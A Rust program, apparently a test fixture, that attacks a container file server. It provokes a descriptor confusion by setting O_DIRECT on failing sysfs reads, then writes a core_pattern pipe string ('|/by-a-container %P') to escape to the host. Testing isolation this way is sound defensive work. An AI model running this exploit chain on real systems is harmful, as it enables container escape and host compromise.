//! A hostile program in an ordinary container, of a user without rights. Its argument says what it does.
//!
//! `close` opens a file of a file system that has no O_DIRECT, many times, and reads each with that flag. A file server that
//! answers the error by closing the descriptor, and keeps the handle, then closes what another container has got under that
//! number. `write` opens a file of its own after that, and writes to it.

use std::ffi::CString;
use std::fs::{self, File};
use std::io;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::path::Path;
use std::time::Duration;

/// A file of sysfs, which is not opened with O_DIRECT either.
const VICTIM: &str = "/host/sys/kernel/uevent_seqnum";
const HANDLES: usize = 16;

fn main() -> io::Result<()> {
    match std::env::args().nth(1).as_deref() {
        Some("close") => close(),
        Some("write") => write(),
        _ => Err(io::ErrorKind::InvalidInput.into()),
    }
}

fn close() -> io::Result<()> {
    let handles: Vec<Option<OwnedFd>> =
        (0..HANDLES).map(|_| File::open(VICTIM).ok().map(OwnedFd::from)).collect();
    let mut refused = 0;
    for handle in handles.iter().flatten() {
        let mut page = Page([0; 4096]);
        // SAFETY: only a flag of an open descriptor is set, and the page is as long as is said.
        let read = unsafe {
            libc::fcntl(handle.as_raw_fd(), libc::F_SETFL, libc::O_DIRECT);
            libc::read(handle.as_raw_fd(), page.0.as_mut_ptr().cast(), page.0.len())
        };
        refused += u32::from(read < 0);
    }
    eprintln!("{refused} of {HANDLES} reads are refused");
    File::create("/volume/ready")?;
    wait_for("/volume/go");
    // The other container's files are open now, under numbers that these handles may still have.
    let mut handles = handles;
    handles.iter_mut().skip(1).step_by(2).for_each(|handle| drop(handle.take()));
    let links = (0..12).filter_map(|_| open_path("/links").ok()).collect::<Vec<_>>();
    eprintln!("{} directories are open", links.len());
    File::create("/volume/closed")?;
    loop {
        std::thread::sleep(Duration::from_secs(1000));
    }
}

fn write() -> io::Result<()> {
    wait_for("/volume/closed");
    let result = fs::write("/target", "|/by-a-container %P\n");
    eprintln!("write: {result:?}");
    File::create("/volume/written")?;
    loop {
        std::thread::sleep(Duration::from_secs(1000));
    }
}

#[repr(align(4096))]
struct Page([u8; 4096]);

fn open_path(path: &str) -> io::Result<OwnedFd> {
    let path = CString::new(path)?;
    // SAFETY: the path ends with a NUL.
    let fd = unsafe { libc::open(path.as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: nobody else owns the new descriptor.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

/// Other containers tell by files, which are not announced between them.
fn wait_for(path: &str) {
    while !Path::new(path).exists() {
        std::thread::sleep(Duration::from_millis(200));
    }
}
